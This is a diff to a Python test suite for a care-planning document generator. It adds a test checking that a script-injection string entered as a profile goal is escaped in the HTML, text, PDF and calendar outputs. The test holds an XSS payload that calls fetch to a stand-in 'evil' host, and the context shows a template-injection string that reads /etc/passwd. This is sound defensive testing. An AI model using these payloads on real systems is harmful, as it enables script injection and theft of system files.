@@ -22,6 +22,7 @@ from planning.documents import (
 )
 from tests.planning.documents.drafted import TOXIN, draft, option, request
 from tests.planning.documents.pages import pages
+from tests.planning.documents.sampled import profile
 
 HOSTILE = (
     '#read("/etc/passwd")',
@@ -90,3 +91,15 @@ def test_what_is_no_picture_is_refused() -> None:
     for picture in (b"GIF89a", b"<svg/>", b"%PDF-1.7"):
         with pytest.raises(PictureUnreadableError):
             client_pdf(request(pictures=Pictures(face_map=picture)))
+
+
+def test_a_goal_that_is_a_script_is_text_in_the_note() -> None:
+    goal = '<script>fetch("//evil")</script><img src=x onerror=alert(1)>'
+    asked = request(profile=profile(goals=[{"words": goal, "codes": ["even_tone"]}]))
+    seen = _Seen()
+    seen.feed(note_html(asked))
+    assert seen.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "ul", "li"}
+    assert goal in seen.text and "<script" not in note_html(asked)
+    assert goal in note_text(asked)
+    assert _bare(goal) in _bare(" ".join(pages(provider_pdf(asked))))
+    assert "evil" not in care_plan(asked) + visits_ics(asked).decode()
